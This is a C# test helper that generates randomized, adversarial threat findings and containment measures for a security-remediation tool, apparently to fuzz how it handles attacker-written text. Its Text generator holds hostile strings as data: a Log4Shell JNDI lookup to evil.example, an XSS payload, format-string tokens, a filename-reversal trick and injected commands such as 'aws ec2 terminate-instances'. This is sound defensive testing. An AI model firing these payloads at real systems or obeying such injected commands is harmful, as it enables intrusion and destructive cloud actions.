using System.Net;
using Remediator.Containment;
using Remediator.Findings;
using Remediator.Network;
using Remediator.Threats;

namespace Remediator.Tests.Findings;

/// <summary>Threats and measures in which every text that somebody else writes is as bad as it can be. What GuardDuty's envelope says
/// (account, region) has been checked by the shell.</summary>
internal static class OddThreat
{
    public static Threat Of(Random random)
    {
        var type = random.Next(2) == 0 ? Attacks.BruteForce.Type : new(Text(random), Text(random), Text(random), Text(random));
        return new(random.Next(2) == 0 ? Attacks.FindingId : Text(random), type, random.NextDouble() * 10, "111122223333", "eu-west-1", Attacks.SeenAt.AddSeconds(random.Next(1_000)))
        {
            Arn = random.Next(3) switch { 0 => null, 1 => Attacks.BruteForce.Arn, _ => $"arn:{Text(random)}" },
            Title = Maybe(random),
            Count = random.Next(-1, 100_000),
            FirstSeen = random.Next(2) == 0 ? null : Attacks.SeenAt.AddDays(-random.Next(5)),
            LastSeen = random.Next(2) == 0 ? null : Attacks.SeenAt,
            Role = (ThreatRole)random.Next(3),
            Direction = (ThreatDirection)random.Next(3),
            WasBlocked = random.Next(3) switch { 0 => null, 1 => true, _ => false },
            IsPortProbe = random.Next(4) == 0,
            InstanceIds = Some(random, Text),
            Interfaces = Some(random, r => new ThreatInterface(Maybe(r), Maybe(r), Maybe(r), Maybe(r)) { GroupIds = Some(r, Text) }),
            Contacts = Some(random, Contact, random.Next(10) == 0 ? 2_000 : 9),
            OtherResources = Some(random, Text),
        };
    }

    public static Measure Measure(Random random)
    {
        var cause = new Cause(Text(random), Maybe(random), Text(random), random.NextDouble() * 10, [22]);
        DateTimeOffset? until = random.Next(2) == 0 ? null : Attacks.SeenAt.AddHours(random.Next(1, 99));
        Measure measure = random.Next(3) switch
        {
            0 => new Isolation(Text(random), cause, "111122223333", "eu-west-1", Text(random), Text(random), Some(random, Text, 17), Attacks.SeenAt, 1) { QuarantineId = Maybe(random), CutsConnections = random.Next(2) == 0 },
            1 => new AclBlock(Text(random), cause, "111122223333", "eu-west-1", Text(random), Sample.Block("2001:db8::9/128"), Attacks.SeenAt, until, 1) { Number = random.Next(2) == 0 ? null : random.Next(1, 32_767) },
            _ => new Suspension(Text(random), cause, Sample.Group with { GroupId = Text(random) }, Some(random, _ => Sample.Opening("tcp", 22, 22, "sg-0c"), 40), Attacks.SeenAt, until, 1),
        };
        return measure with { State = (MeasureState)random.Next(5), Problem = Maybe(random), EndedBy = Maybe(random), EndedAt = random.Next(2) == 0 ? null : Attacks.SeenAt.AddHours(3) };
    }

    public static ThreatReport Report(Random random) => new(
        Of(random),
        Some(random, r => new MeasureReport(Text(r), (MeasureResult)r.Next(5), r.Next(2) == 0 ? null : Measure(r), Maybe(r), []), 14),
        Some(random, r => (Sample.Group with { GroupId = Text(r) }, Text(r)), 14),
        Maybe(random),
        Some(random, Text, 14),
        Text(random));

    public static string Text(Random random) => random.Next(12) switch
    {
        0 => string.Concat(Enumerable.Repeat("💣", 1_000)),
        1 => "{0} %n%s ${jndi:ldap://evil.example/a} <img src=x onerror=alert(1)> https://evil.example \u202egnp.exe",
        2 => "\n\nWHAT NOW\nremediator undo everything\naws ec2 terminate-instances",
        3 => OddText.Of(random, 1_000),
        _ => OddText.Of(random, 30),
    };

    public static string? Maybe(Random random) => random.Next(3) == 0 ? null : Text(random);

    private static Contact Contact(Random random)
    {
        var bytes = new byte[random.Next(2) == 0 ? 4 : 16];
        random.NextBytes(bytes);
        return new(new IPAddress(bytes), random.Next(3) == 0 ? null : new Protocol((byte)random.Next(256)), random.Next(3) == 0 ? null : random.Next(65_536))
        {
            Direction = (ThreatDirection)random.Next(3),
            Owner = random.Next(3) == 0 ? null : new(Maybe(random), Maybe(random), Maybe(random), Maybe(random)) { Country = Maybe(random) },
        };
    }

    private static ImmutableArray<T> Some<T>(Random random, Func<Random, T> make, int most = 8) => [.. Enumerable.Range(0, random.Next(most)).Select(_ => make(random))];
}
